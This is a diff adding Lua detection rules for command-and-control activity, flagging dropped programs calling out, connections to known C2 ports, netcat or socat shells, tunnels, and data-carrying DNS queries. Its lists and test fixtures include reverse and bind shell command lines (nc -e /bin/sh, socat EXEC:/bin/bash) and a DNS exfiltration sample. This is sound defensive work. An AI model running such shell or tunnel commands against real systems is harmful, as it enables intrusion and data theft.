@@ -1,0 +1,282 @@
+-- Command and control (ATT&CK TA0011): programs in odd places calling out,
+-- connections to the ports implants and tunnels use, netcat and socat
+-- handing a shell to the network, tunnels and proxies, DNS names that carry
+-- data.
+
+local basename, startswith, contains = tapio.basename, tapio.startswith, tapio.contains
+
+-- Where a connection goes off this host: not loopback, not "any".
+local function off_host(addr)
+  return addr ~= nil and addr ~= "" and not startswith(addr, "127.") and addr ~= "::1"
+      and not startswith(addr, "::ffff:127.") and addr ~= "0.0.0.0" and addr ~= "::"
+end
+
+local function inet(e)
+  return e.family == 2 or e.family == 10
+end
+
+local TMP_DIRS = { "/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/" }
+
+-- Whether a program's file is somewhere programs are dropped, not installed.
+local function dropped_exe(exe)
+  if exe == nil then return false end
+  return tapio.startswith_any(exe, TMP_DIRS) or startswith(exe, "memfd:")
+      or startswith(exe, "/memfd:") or contains(exe, "(deleted)")
+      or exe:find("/%.[^/%.][^/]*/") ~= nil or exe:find("/%.[^/]*$") ~= nil
+end
+
+rule {
+  name = "dropped_program_connected_out",
+  desc = "A program running from a temporary, hidden or deleted file (or from memory) "
+      .. "opened a connection off this host: an implant calling home",
+  events = { "network.connect" },
+  severity = "error",
+  importance = 0.9,
+  tags = { "mitre:T1071", "mitre:T1105" },
+  when = function(e)
+    return inet(e) and e.dport ~= 0 and off_host(e.daddr) and dropped_exe(e.exe)
+        and e.ret ~= -101 -- ENETUNREACH: no route, nothing left the host
+  end,
+  output = "${exe} (pid ${pid}, uid ${uid}, parent ${parent.comm} pid ${ppid}) connected to "
+        .. "${daddr}:${dport}; container ${container.id}, pod ${k8s.namespace}/${k8s.pod}; "
+        .. "command: ${argv}",
+  tests = {
+    { event = { type = "network.connect", comm = "x", exe = "/tmp/.x/agent", family = 2,
+                daddr = "203.0.113.7", dport = 443 }, expect = true },
+    { event = { type = "network.connect", comm = "x", exe = "/dev/shm/x", family = 10,
+                daddr = "2001:db8::1", dport = 8080, ret = -115 }, expect = true },
+    { event = { type = "network.connect", comm = "x", exe = "/tmp/x", family = 2,
+                daddr = "127.0.0.1", dport = 8080 }, expect = false },
+    { event = { type = "network.connect", comm = "curl", exe = "/usr/bin/curl", family = 2,
+                daddr = "203.0.113.7", dport = 443 }, expect = false },
+    { event = { type = "network.connect", comm = "x", exe = "/tmp/x", family = 1,
+                unix_path = "/run/x.sock" }, expect = false },
+  },
+}
+
+-- Ports that implants, their handlers, Tor and mining pools listen on by
+-- default. Extend it with what your fleet must never reach.
+local C2_PORTS = {
+  [4444] = "Metasploit handler", [4445] = "Metasploit handler", [1337] = "leet",
+  [31337] = "Back Orifice / leet", [6666] = "IRC", [6667] = "IRC", [6697] = "IRC over TLS",
+  [9050] = "Tor SOCKS", [9051] = "Tor control", [9150] = "Tor Browser SOCKS",
+  [50050] = "Cobalt Strike team server", [3333] = "mining pool", [14444] = "mining pool",
+  [45700] = "mining pool", [5555] = "Android debug / RAT", [1080] = "SOCKS proxy",
+}
+
+rule {
+  name = "connection_to_c2_port",
+  desc = "A connection off this host to a port that implant handlers, Tor, IRC bots and "
+      .. "mining pools use by default (4444, 31337, 6667, 9050, 50050, 3333...)",
+  events = { "network.connect" },
+  severity = "warning",
+  importance = 0.8,
+  tags = { "mitre:T1571", "mitre:T1090.003", "mitre:T1071" },
+  when = function(e)
+    return inet(e) and C2_PORTS[e.dport] ~= nil and off_host(e.daddr) and e.ret ~= -101
+  end,
+  output = "${comm} (pid ${pid}, exe ${exe}, uid ${uid}, parent ${parent.comm} pid ${ppid}) "
+        .. "connected to ${daddr}:${dport}; container ${container.id}, pod "
+        .. "${k8s.namespace}/${k8s.pod}; command: ${argv}",
+  tests = {
+    { event = { type = "network.connect", comm = "python3", family = 2, daddr = "198.51.100.9",
+                dport = 4444 }, expect = true },
+    { event = { type = "network.connect", comm = "x", family = 2, daddr = "10.0.0.5",
+                dport = 9050, ret = -115 }, expect = true },
+    { event = { type = "network.connect", comm = "x", family = 2, daddr = "127.0.0.1",
+                dport = 9050 }, expect = false },
+    { event = { type = "network.connect", comm = "x", family = 2, daddr = "10.0.0.5",
+                dport = 443 }, expect = false },
+  },
+}
+
+local NETCATS = tapio.set { "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox",
+                            "socat", "pwncat", "rcat" }
+local SHELLS = tapio.set { "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "tcsh", "csh",
+                           "fish", "python", "python3", "perl", "ruby", "php", "lua", "node" }
+
+-- Whether the text names a shell: "/bin/sh", "bash -i", "exec:sh".
+local function names_shell(s)
+  for w in s:gmatch("[^%s:,'\"/]+") do
+    if SHELLS[w] or SHELLS[w:match("^(%a+)[%d.]*$") or ""] then return true end
+  end
+  return false
+end
+
+rule {
+  name = "network_tool_executes_shell",
+  desc = "netcat, ncat or socat was told to hand a shell to a network connection (nc -e "
+      .. "/bin/sh, ncat --sh-exec, socat TCP:...,EXEC:bash): a reverse or bind shell",
+  events = { "process.exec" },
+  severity = "critical",
+  importance = 0.95,
+  tags = { "mitre:T1059.004", "mitre:T1071", "mitre:T1095" },
+  when = function(e)
+    if e.ret ~= 0 then return false end
+    local name = basename(e.filename)
+    if not NETCATS[name] then return false end
+    local argv = e.argv
+    if name == "socat" then
+      local exec, net = false, false
+      for i = 2, #argv do
+        local a = argv[i]:lower()
+        if (startswith(a, "exec:") or startswith(a, "system:")) and names_shell(argv[i]) then
+          exec = true
+        elseif a:find("^tcp") or a:find("^udp") or a:find("^openssl") or a:find("^sctp") then
+          net = true
+        end
+      end
+      return exec and net
+    end
+    for i = 2, #argv do
+      local a = argv[i]
+      if a == "-e" or a == "-c" or a == "--exec" or a == "--sh-exec" or a == "--lua-exec" then
+        return argv[i + 1] ~= nil and (a == "--sh-exec" or a == "-c" or names_shell(argv[i + 1]))
+      end
+      if a:find("^%-%a*e$") and argv[i + 1] ~= nil and names_shell(argv[i + 1]) then
+        return true -- nc -lvpe /bin/sh 4444 style bundles
+      end
+      if startswith(a, "--exec=") or startswith(a, "--sh-exec=") then return true end
+    end
+    return false
+  end,
+  output = "shell handed to the network: ${argv} (pid ${pid}, uid ${uid}, parent ${parent.comm} "
+        .. "pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
+  tests = {
+    { event = { type = "process.exec", comm = "nc", filename = "/bin/nc.traditional",
+                argv = { "nc", "10.0.0.1", "4444", "-e", "/bin/sh" } }, expect = true },
+    { event = { type = "process.exec", comm = "ncat", filename = "/usr/bin/ncat",
+                argv = { "ncat", "-lvp", "4444", "--sh-exec", "id" } }, expect = true },
+    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
+                argv = { "socat", "TCP-LISTEN:4444,reuseaddr", "EXEC:/bin/bash" } },
+      expect = true },
+    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
+                argv = { "socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.2:80" } }, expect = false },
+    { event = { type = "process.exec", comm = "nc", filename = "/bin/nc",
+                argv = { "nc", "-zv", "10.0.0.1", "22" } }, expect = false },
+  },
+}
+
+local TUNNEL_TOOLS = tapio.set {
+  "chisel", "ngrok", "frpc", "frps", "gost", "ligolo", "ligolo-ng", "ligolo-agent", "iodine",
+  "iodined", "dnscat", "dnscat2", "sshuttle", "autossh", "rathole", "bore", "cloudflared",
+  "proxychains", "proxychains4", "tor", "torsocks", "stunnel", "stunnel4", "revsocks",
+  "reverse_ssh", "dns2tcp", "dns2tcpc", "hans", "ptunnel", "ptunnel-ng", "udp2raw", "neo-regeorg",
+}
+local SSH_FORWARD_FLAGS = tapio.set { "-L", "-R", "-D", "-w" }
+local SSH_FORWARD_OPTIONS = { "localforward", "remoteforward", "dynamicforward", "tunnel=" }
+
+local function ssh_tunnel(argv)
+  for i = 2, #argv do
+    local a = argv[i]
+    if SSH_FORWARD_FLAGS[a] then return true end
+    -- bundled: -NfL 8080:..., -fND 1080
+    if a:find("^%-%a*[LRDw]") and not a:find("^%-%-") and not a:find("^%-[ilopFJEbcemQSW]") then
+      return true
+    end
+    if a == "-o" and argv[i + 1] ~= nil then
+      local o = argv[i + 1]:lower()
+      for _, f in ipairs(SSH_FORWARD_OPTIONS) do
+        if startswith(o, f) then return true end
+      end
+    end
+  end
+  return false
+end
+
+local function socat_relay(argv)
+  local listen, connect = false, false
+  for i = 2, #argv do
+    local a = argv[i]:upper()
+    if a:find("^TCP%d?%-LISTEN") or a:find("^UDP%d?%-LISTEN") or a:find("^OPENSSL%-LISTEN")
+        or a:find("^UNIX%-LISTEN") then
+      listen = true
+    elseif a:find("^TCP%d?:") or a:find("^UDP%d?:") or a:find("^OPENSSL:")
+        or a:find("^SOCKS4A?:") or a:find("^PROXY:") then
+      connect = true
+    end
+  end
+  return listen and connect
+end
+
+rule {
+  name = "tunnel_or_proxy_started",
+  desc = "A tunnel or proxy was opened: ssh port forwarding (-L, -R, -D, -w), a socat "
+      .. "relay, or a tunneling tool (chisel, ngrok, frp, gost, ligolo, iodine, dnscat, "
+      .. "sshuttle, proxychains, tor...): traffic smuggled past the network's controls",
+  events = { "process.exec" },
+  severity = "warning",
+  importance = 0.8,
+  tags = { "mitre:T1572", "mitre:T1090", "mitre:T1021.004" },
+  when = function(e)
+    if e.ret ~= 0 then return false end
+    local name = basename(e.filename)
+    if TUNNEL_TOOLS[name] then return true end
+    if name == "ssh" or name == "autossh" then return ssh_tunnel(e.argv) end
+    if name == "socat" then return socat_relay(e.argv) end
+    return false
+  end,
+  output = "tunnel: ${argv} (pid ${pid}, uid ${uid}, parent ${parent.comm} pid ${ppid}, "
+        .. "container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
+  tests = {
+    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
+                argv = { "ssh", "-NfR", "9000:127.0.0.1:22", "u@203.0.113.5" } }, expect = true },
+    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
+                argv = { "ssh", "-D", "1080", "-N", "u@h" } }, expect = true },
+    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
+                argv = { "ssh", "-o", "LocalForward=8080 10.0.0.2:80", "u@h" } }, expect = true },
+    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
+                argv = { "socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.2:80" } }, expect = true },
+    { event = { type = "process.exec", comm = "chisel", filename = "/tmp/chisel",
+                argv = { "chisel", "client", "h:8000", "R:socks" } }, expect = true },
+    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
+                argv = { "ssh", "-i", "key", "-l", "root", "host", "uptime" } }, expect = false },
+    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
+                argv = { "ssh", "-F", "cfg", "host" } }, expect = false },
+  },
+}
+
+-- A DNS label that carries data rather than a name: long, and made of an
+-- encoding's alphabet with many digits (hex, base32, base64url).
+local function encoded_label(qname)
+  if qname == nil then return nil end
+  if #qname > 150 then return qname end
+  for label in qname:gmatch("[^.]+") do
+    if #label >= 30 then
+      local digits = select(2, label:gsub("%d", ""))
+      local words = select(2, label:gsub("%-", ""))
+      if digits * 5 >= #label or (words == 0 and not label:find("^%l+$")) then
+        return label
+      end
+    end
+  end
+  return nil
+end
+
+rule {
+  name = "dns_query_carries_data",
+  desc = "A DNS query for a name with a long encoded label (hex, base32, base64) or an "
+      .. "overlong name: data tunneled or exfiltrated through DNS lookups",
+  events = { "network.dns" },
+  severity = "warning",
+  importance = 0.8,
+  tags = { "mitre:T1071.004", "mitre:T1048.003", "mitre:T1572" },
+  when = function(e)
+    return encoded_label(e.qname) ~= nil
+  end,
+  output = "DNS ${qtype_str} query for ${qname} by ${comm} (pid ${pid}, exe ${exe}, uid ${uid}, "
+        .. "parent ${parent.comm} pid ${ppid}) to ${daddr}:${dport}; container ${container.id}, "
+        .. "pod ${k8s.namespace}/${k8s.pod}",
+  tests = {
+    { event = { type = "network.dns", comm = "x", qtype = 16,
+                qname = "4a6f686e20446f65207061737377643a2068756e746572.t.example.com" },
+      expect = true },
+    { event = { type = "network.dns", comm = "x", qtype = 1,
+                qname = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.d.example.net" }, expect = true },
+    { event = { type = "network.dns", comm = "x", qtype = 1, qname = "www.example.com" },
+      expect = false },
+    { event = { type = "network.dns", comm = "x", qtype = 1,
+                qname = "internal-my-service-load-balancer.us-east-1.elb.amazonaws.com" },
+      expect = false },
+  },
+}
